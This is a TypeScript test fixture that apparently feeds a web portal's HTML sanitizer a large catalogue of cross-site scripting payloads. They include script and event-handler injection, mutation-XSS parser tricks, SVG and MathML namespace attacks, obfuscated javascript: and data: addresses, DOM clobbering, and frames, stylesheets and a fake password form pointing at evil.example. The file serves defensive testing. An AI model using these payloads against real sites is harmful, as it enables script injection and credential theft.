/**
 * Hostile bodies: they try to run a script, to break the page's design or to imitate a part of the
 * portal. A successful attack calls `attacked()`, which a test defines. The kinds follow known
 * browser behaviour: mutation between parsers, foreign namespaces, disguised addresses, style,
 * shadowed names.
 */
export interface Attack {
  name: string;
  html: string;
}

const image = '<img src=x onerror=attacked()>';
const list = (kind: string, bodies: string[]): Attack[] =>
  bodies.map((html, index) => ({ name: `${kind} ${index + 1}`, html }));

const scripts = list('script', [
  '<script>attacked()</script>',
  '<SCRIPT SRC="data:text/javascript,attacked()"></SCRIPT>',
  '<scr<script>ipt>attacked()</scr</script>ipt>',
  '<script\u0000>attacked()</script>',
  '<script/x>attacked()</script >',
  '<<script>attacked();//<</script>',
  '<script type="module">attacked()</script>',
  '<script>/*</p>*/attacked()',
]);

const handlers = list('handler', [
  image,
  '<img src="https://a.example/a.png" onload="attacked()">',
  '<img/src=x/onerror=attacked()>',
  '<img src=x oNeRrOr=attacked()>',
  '<img src="x"onerror="attacked()">',
  '<img src=x onerror\u000c=attacked()>',
  '<p onmouseover="attacked()" onfocus=attacked() tabindex=0 autofocus>текст</p>',
  '<details open ontoggle=attacked()><summary>x</summary></details>',
  '<body onload=attacked() onpageshow=attacked()>',
  '<video src=x onerror=attacked()></video><audio src=x onerror=attacked()></audio>',
  '<video><source onerror=attacked()></video>',
  '<input autofocus onfocus=attacked()>',
  '<marquee onstart=attacked()>x</marquee>',
  '<iframe src="https://www.youtube.com/embed/abcdefghijk" onload=attacked()></iframe>',
  '<div onanimationstart=attacked() style="animation:x">x</div>',
  '<a href="#h-x" onclick="attacked()" onauxclick=attacked()>x</a>',
  '<object data=x onerror=attacked()></object>',
  '<img alt="`><script>attacked()</script>" src=`x` onerror=attacked()>',
]);

const mutations = list('mutation', [
  `<noscript><p title="</noscript>${image}">`,
  `<svg></p><style><a id="</style>${image}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea>${image}">`,
  `<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>${image}</noscript></desc></svg>`,
  `<template><p title="</template>${image}"></template>`,
  `<textarea><p title="</textarea>${image}"></textarea>`,
  `<title><p title="</title>${image}"></title>`,
  `<xmp><p title="</xmp>${image}"></xmp>`,
  `<noembed><p title="</noembed>${image}"></noembed>`,
  `<noframes><p title="</noframes>${image}"></noframes>`,
  `<iframe><p title="</iframe>${image}"></iframe>`,
  `<iframe src="https://www.youtube.com/embed/abcdefghijk">&lt;/iframe&gt;${image}</iframe>`,
  `<plaintext>${image}`,
  `<!--><p>-->${image}`,
  `<!--!>${image}-->`,
  `<!-- --!>${image} -->`,
  `<![CDATA[ > ]]>${image}`,
  `<?xml > ?>${image}`,
  `<p title="&quot;>${image}">x</p>`,
  `<p title='"><img src=x onerror=attacked()>'>x</p>`,
  `<table><tr><td>x<caption>${image}</caption></table>`,
  `<a><table><a>${image}</a></table></a>`,
  `<select><template><style><!--</style><a rel="--></style></template></select>${image}">`,
  `<details><summary><p></details>${image}`,
  `<abbr title="&lt;img src=x onerror=attacked()&gt;">x</abbr>`,
  `&lt;script&gt;attacked()&lt;/script&gt;&amp;lt;img src=x onerror=attacked()&amp;gt;`,
]);

const foreign = list('namespace', [
  '<svg onload=attacked()>',
  '<svg><script>attacked()</script></svg>',
  '<svg><script href="data:,attacked()" /></svg>',
  '<svg><a xlink:href="javascript:attacked()"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=attacked() attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:attacked() /><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdhdHRhY2tlZCgpJy8+#x"/></svg>',
  `<svg><foreignObject>${image}</foreignObject></svg>`,
  '<math href="javascript:attacked()">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=attacked()></annotation-xml></math>',
  `<svg:img src=x onerror=attacked()>`,
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">attacked()</x:script>',
]);

const disguises = [
  'javascript:attacked()',
  'JaVaScRiPt:attacked()',
  ' \u0001javascript:attacked()',
  'java\tscript:attacked()',
  'java\nscript:attacked()',
  'java&#x0A;script:attacked()',
  'java&Tab;script&colon;attacked()',
  '&#106;avascript:attacked()',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;attacked()',
  'javascript&#58;attacked()',
  'java\u00adscript:attacked()',
  '\u200bjavascript:attacked()',
  'data:text/html,<script>attacked()</script>',
  'data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg onload="attacked()" xmlns="http://www.w3.org/2000/svg"/>',
  'vbscript:attacked()',
  'view-source:javascript:attacked()',
  'blob:https://kampus.example/0',
  'filesystem:https://kampus.example/temporary/x',
  '//evil.example/x.js',
  '\\\\evil.example\\x',
  '/\\evil.example',
  'https://user:password@evil.example/',
  'https:\\evil.example',
];
const addresses = disguises.flatMap((address, index) => {
  const value = address.replaceAll('"', '&quot;');
  return [
    { name: `link address ${index + 1}`, html: `<a href="${value}">ссылка</a>` },
    { name: `image address ${index + 1}`, html: `<img src="${value}" alt="картинка">` },
    { name: `frame address ${index + 1}`, html: `<iframe src="${value}"></iframe>` },
  ];
});
const otherAddresses = list('address', [
  '<a href="#" ping="javascript:attacked()" target="_top">x</a>',
  '<form action="javascript:attacked()"><button>x</button></form>',
  '<form id=x></form><button form=x formaction="javascript:attacked()">x</button>',
  '<img srcset="javascript:attacked() 1x" src="https://a.example/a.png">',
  '<img longdesc="javascript:attacked()" lowsrc="javascript:attacked()" src="https://a.example/a.png" usemap="#m">',
  '<map name=m><area href="javascript:attacked()" shape=rect coords="0,0,9,9"></map>',
  '<table background="javascript:attacked()"><tr><td background="javascript:attacked()">x</td></tr></table>',
  '<blockquote cite="javascript:attacked()">x</blockquote>',
  '<object data="javascript:attacked()"></object><embed src="javascript:attacked()">',
  '<video poster="javascript:attacked()"></video>',
  '<isindex action="javascript:attacked()">',
]);

const frames = list('frame', [
  '<iframe srcdoc="<script>parent.attacked()</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abcdefghijk" srcdoc="<script>parent.attacked()</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/abcdefghijk"></iframe>',
  '<iframe src="https://evil.example/?https://www.youtube.com/embed/abcdefghijk"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/abcdefghijk"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
  '<iframe src="https://www.google.com/url?q=https://evil.example"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abcdefghijk" sandbox="allow-top-navigation allow-same-origin" allow="camera"></iframe>',
  '<frameset><frame src="javascript:attacked()"></frameset>',
  '<portal src="https://evil.example"></portal>',
]);

const styles = list('style', [
  '<style>@import "//evil.example/x.css"; body{display:none}</style>',
  '<p style="position:fixed;inset:0;background:url(//evil.example/x)">x</p>',
  '<p style="width:expression(attacked())">x</p>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<p class="fixed inset-0 z-50 bg-surface">Войдите снова</p>',
  '<font color="expression(attacked())" face="x">x</font>',
]);

const shadows = list('shadow', [
  '<a id="root">x</a><a id="defaultView" name="defaultView">x</a>',
  '<form id="document"><input name="cookie"><input name="getElementById"></form>',
  '<img name="currentScript" src="https://a.example/a.png"><img id="location" src="https://a.example/a.png">',
  '<a id="kampus"></a><a id="kampus" name="config" href="https://evil.example">x</a>',
  '<iframe name="self" src="https://www.youtube.com/embed/abcdefghijk"></iframe>',
  '<h2 id="root">root</h2><h2 id="h-ok">location</h2><h2>__proto__</h2>',
  '<output form="x" for="root">x</output>',
]);

const pageWide = list('page', [
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:attacked()">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<link rel="import" href="https://evil.example/x.html"><link rel=preload as=script href=//evil.example>',
  '<html manifest="https://evil.example/x"><head><script>attacked()</script></head><body onload=attacked()>x</body></html>',
  '<form action="https://evil.example"><input name=login><input type=password name=password><button>Вход</button></form>',
  '<dialog open>Введите пароль <input></dialog>',
  '<p popover id=x>x</p><button popovertarget=x>x</button>',
  '</div></main><div id="root">поддельная страница</div>',
  '<slot name=x></slot><x-evil is="x-evil" contenteditable>x</x-evil>',
  '<div is="x" nonce="x" slot="x" part="x" itemprop="x" data-x="{{constructor.constructor(\'attacked()\')()}}">x</div>',
]);

export const attacks: Attack[] = [
  ...scripts,
  ...handlers,
  ...mutations,
  ...foreign,
  ...addresses,
  ...otherAddresses,
  ...frames,
  ...styles,
  ...shadows,
  ...pageWide,
];
